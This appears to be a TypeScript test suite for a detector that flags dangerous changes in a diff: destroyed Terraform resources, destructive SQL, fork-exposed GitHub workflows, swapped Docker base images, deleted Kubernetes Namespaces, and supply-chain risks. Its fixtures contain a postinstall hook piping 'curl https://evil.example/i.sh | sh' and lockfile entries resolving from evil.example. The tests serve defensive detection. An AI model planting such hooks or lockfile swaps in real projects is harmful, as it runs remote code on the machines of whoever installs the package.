// What a change does inside a high-blast-radius file (core/dangers.ts): each check finds the
// destructive edit and names its line, and leaves the ordinary edit beside it alone.
import { strict as assert } from 'node:assert';
import { findDangers, readsContent } from '../../src/core/dangers';
import { liveDiff } from '../../src/core/livediff';
import type { FileChange } from '../../src/core/model';

function edit(path: string, oldText: string | undefined, newText: string | undefined, extra: Partial<FileChange> = {}): FileChange {
  const d = liveDiff(oldText ?? '', newText ?? '');
  return {
    path,
    status: oldText === undefined ? 'added' : newText === undefined ? 'deleted' : 'modified',
    binary: false,
    added: d.added,
    removed: d.removed,
    hunks: d.hunks,
    ...(oldText !== undefined ? { oldText } : {}),
    ...(newText !== undefined ? { newText } : {}),
    ...extra,
  };
}

const lines = (...ls: string[]) => ls.join('\n') + '\n';
const found = (...changes: FileChange[]) => Object.fromEntries([...findDangers(changes)].map(([p, ds]) => [p, ds.map((d) => `${d.side}:${d.line} ${d.what}`)]));

const DB = lines('resource "aws_db_instance" "primary" {', '  instance_class = "db.r6g.large"', '  lifecycle {', '    prevent_destroy = true', '  }', '}', 'module "vpc" {', '  source = "./vpc"', '}');

describe('dangers in a change', () => {
  describe('Terraform', () => {
    it('a renamed resource (no moved block) and prevent_destroy taken away; not the attribute edit beside them', () => {
      const after = DB.replace('"primary"', '"main"').replace('db.r6g.large', 'db.r6g.xlarge').replace('  lifecycle {\n    prevent_destroy = true\n  }\n', '');
      assert.deepEqual(found(edit('infra/main.tf', DB, after)), {
        'infra/main.tf': [
          'old:1 removes the resource `aws_db_instance.primary`: Terraform destroys it (a rename needs a `moved` block)',
          'old:4 removes `prevent_destroy = true`',
        ],
      });
      assert.deepEqual(found(edit('infra/main.tf', DB, DB.replace('db.r6g.large', 'db.r6g.xlarge'))), {});
    });

    it('a moved block, or the block moved to another file of the change, accounts for the address', () => {
      const renamed = DB.replace('"primary"', '"main"') + lines('moved {', '  from = aws_db_instance.primary', '  to   = aws_db_instance.main', '}');
      assert.deepEqual(found(edit('infra/main.tf', DB, renamed)), {});
      const without = DB.split('module "vpc"')[0]!;
      assert.deepEqual(found(edit('infra/main.tf', DB, without), edit('infra/network.tf', undefined, lines('module "vpc" {', '  source = "./vpc"', '}'))), {});
      assert.deepEqual(found(edit('infra/main.tf', DB, without)), { 'infra/main.tf': ['old:7 removes the module `module.vpc`: Terraform destroys it (a rename needs a `moved` block)'] });
    });

    it('a deleted file destroys everything it declared; count switched to for_each re-addresses', () => {
      assert.deepEqual(found(edit('infra/main.tofu', DB, undefined)), {
        'infra/main.tofu': ['old:1 removes `aws_db_instance.primary`, `module.vpc`: Terraform destroys them (a rename needs a `moved` block)', 'old:4 removes `prevent_destroy = true`'],
      });
      const counted = lines('resource "aws_instance" "web" {', '  count = 2', '}');
      assert.deepEqual(found(edit('web.tf', counted, counted.replace('count = 2', 'for_each = toset(["a", "b"])'))), {
        'web.tf': ['new:2 switches `count` to `for_each`: every instance gets a new address, destroyed and created again unless `moved` blocks map them'],
      });
    });
  });

  it('SQL: DROP TABLE, TRUNCATE and DELETE without WHERE in added lines; not in comments, a WHERE clause or a down migration', () => {
    const added = lines('ALTER TABLE invoices ADD COLUMN retries int;', 'drop table invoices;', '-- DROP TABLE old_invoices', 'TRUNCATE audit;', 'DELETE FROM sessions;', 'DELETE FROM sessions WHERE expired;');
    assert.deepEqual(found(edit('db/migrations/002.sql', lines('SELECT 1;'), lines('SELECT 1;') + added)), {
      'db/migrations/002.sql': ['new:3 runs `DROP TABLE`: data is lost', 'new:5 runs `TRUNCATE`: data is lost', 'new:6 runs `DELETE FROM` with no `WHERE`: every row is deleted'],
    });
    assert.deepEqual(found(edit('db/migrations/002_x.down.sql', undefined, lines('DROP TABLE invoices;'))), {});
  });

  it('a workflow opened to forks with write access', () => {
    const before = lines('on: [pull_request]', 'jobs: {}');
    const after = lines('on: [pull_request_target] # was pull_request', 'permissions: write-all', 'jobs: {}');
    assert.deepEqual(found(edit('.github/workflows/ci.yml', before, after)), {
      '.github/workflows/ci.yml': ['new:1 runs on `pull_request_target`: with write access and secrets, for pull requests from forks', 'new:2 grants `permissions: write-all`'],
    });
  });

  it('a Dockerfile whose base image comes from elsewhere; not a new tag of the same image', () => {
    const before = lines('FROM node:20-alpine AS build', 'RUN npm ci');
    assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'node:22-alpine'))), {});
    assert.deepEqual(found(edit('svc/Dockerfile.prod', before, before.replace('node:20-alpine', 'ghcr.io/someone/node:latest'))), {
      'svc/Dockerfile.prod': ['new:1 takes its base image from `ghcr.io/someone/node` instead of `node`'],
    });
  });

  it('Kubernetes objects whose deletion takes data with them, in any YAML file; not one still declared', () => {
    const ns = lines('apiVersion: v1', 'kind: Namespace', 'metadata:', '  name: billing');
    const pvc = lines('apiVersion: v1', 'kind: PersistentVolumeClaim', 'metadata:', '  name: data');
    assert.deepEqual(found(edit('deploy/namespace.yaml', ns, undefined), edit('deploy/pvc.yaml', pvc, pvc.replace('name: data', 'name: data2'))), {
      'deploy/namespace.yaml': ['old:2 removes a Namespace: deleting a Namespace deletes everything in it'],
    });
    assert.deepEqual(found(edit('deploy/app.yaml', lines('kind: Deployment'), undefined)), {});
    assert.deepEqual(found(edit('deploy/odd.yaml', lines('kind: constructor', 'kind: __proto__', 'kind: toString'), undefined)), {});
  });

  it('package.json install scripts, and lockfile packages from a host it did not name before', () => {
    const pkg = lines('{', '  "scripts": {', '    "test": "mocha"', '  }', '}');
    const withHook = pkg.replace('"test": "mocha"', '"test": "mocha",\n    "postinstall": "curl -s https://evil.example/i.sh | sh"');
    assert.deepEqual(found(edit('package.json', pkg, withHook), edit('web/package.json', pkg, pkg.replace('mocha', 'vitest'))), {
      'package.json': ['new:4 sets the `postinstall` script, which the package manager runs on install'],
    });
    const lock = lines('{', '  "node_modules/a": {', '    "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"', '  }', '}');
    const swapped = lock.replace('}\n}', '},\n  "node_modules/b": {\n    "resolved": "https://evil.example/b.tgz"\n  },\n  "node_modules/c": {\n    "resolved": "https://registry.npmjs.org/c/-/c-1.0.0.tgz"\n  }\n}');
    assert.deepEqual(found(edit('package-lock.json', lock, swapped)), {
      'package-lock.json': ['new:6 resolves a package from `evil.example`, a host the lockfile did not name before'],
    });
    assert.deepEqual(found(edit('yarn.lock', lines('a@1:', '  resolved "https://registry.yarnpkg.com/a/-/a-1.tgz"'), lines('a@1:', '  resolved "https://evil.example/a-1.tgz"'))), {
      'yarn.lock': ['new:2 resolves a package from `evil.example`, a host the lockfile did not name before'],
    });
  });

  it('reads no other file, and nothing without its texts', () => {
    assert.equal(readsContent('src/app.ts'), false);
    assert.equal(readsContent('README.md'), false);
    assert.equal(readsContent('infra/main.tf'), true);
    const noText = { ...edit('infra/main.tf', DB, undefined), oldText: undefined };
    assert.deepEqual(found(noText), {});
  });
});
